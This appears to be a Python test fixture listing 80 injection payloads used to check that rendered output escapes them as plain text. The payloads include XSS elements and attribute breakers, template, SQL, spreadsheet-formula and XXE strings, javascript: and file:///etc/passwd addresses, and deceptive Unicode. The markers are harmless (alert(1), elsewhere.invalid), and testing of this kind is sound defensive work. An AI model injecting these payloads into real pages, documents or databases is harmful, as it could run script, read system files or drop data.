"""Hostile words: 80 of them, for whatever shows what a document says. Each must stay text, wherever it stands.

What runs calls `alert`, and what is fetched is below `elsewhere.invalid`: a browser that does either was told by one of
these. They hold no character that no text can hold (a lone surrogate), but some that XML cannot.
"""

from __future__ import annotations

# Begins an element where text stands.
ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://elsewhere.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://elsewhere.invalid/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://elsewhere.invalid/x.swf>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href='java\nscript:alert(1)'>here</a>",
    "<form action=javascript:alert(1)><button>here</button></form>",
    "<base href=https://elsewhere.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid/'>",
    "<link rel=stylesheet href=https://elsewhere.invalid/x.css>",
    "<style>@import 'https://elsewhere.invalid/x.css';</style>",
    "<style>*{background:url(https://elsewhere.invalid/x.png)}</style>",
    "<div style=background:url(https://elsewhere.invalid/x.png)>x</div>",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
# Ends what it stands in, and goes on as something else.
BREAKERS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onerror=alert(1) `",
    '" style="position:fixed;inset:0" onclick="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</p></div></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'https://elsewhere.invalid/'>]><x>&e;</x>",
    "*/alert(1)/*",
    "\\',alert(1),\\'",
    '\\"};alert(1);//',
    "';alert(1)//",
    "}body{background:url(https://elsewhere.invalid/x.png)}",
)
# Means something to a template, a script, a shell, a query, a spreadsheet or a language of pictures.
TEMPLATES = (
    "{{7*7}}{{config}}{{''.__class__.__mro__}}",
    "{% raw %}{% include '/etc/passwd' %}",
    "{# comment #}",
    "${7*7}${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s {0.__class__} %n%n",
    '=HYPERLINK("https://elsewhere.invalid/","here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '" } INSERT DATA { <a:a> <a:b> <a:c> } #',
    "'; DROP TABLE documents; --",
    '"]; click A "javascript:alert(1)"',
    'label=<<b>alert(1)</b>> URL="javascript:alert(1)"',
)
# Is an address, where somebody makes a link of it.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:alert(1)",
    "//elsewhere.invalid/x",
    'https://elsewhere.invalid/"onclick="alert(1)',
    "file:///etc/passwd",
)
# Is not what it looks like, or is nothing that can be seen.
CHARACTERS = (
    "\u202e<tpircs/>)1(trela<tpircs>\u202c",
    "\u2066\u2067 isolated \u2069\u200f\u200e",
    "\ufeff\u200b\u200d\u00ad\u2028\u2029alert(1)",
    "\x08\x0b\x0c\x1b[31mred\x1b]8;;https://elsewhere.invalid/\x07\x7f\x85",
    "\ufffe\uffff\U0001f4a9" + "\u0301" * 40,
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;script&#62; &nbsp &unknown;",
)
PAYLOADS = (*ELEMENTS, *BREAKERS, *TEMPLATES, *ADDRESSES, *CHARACTERS)
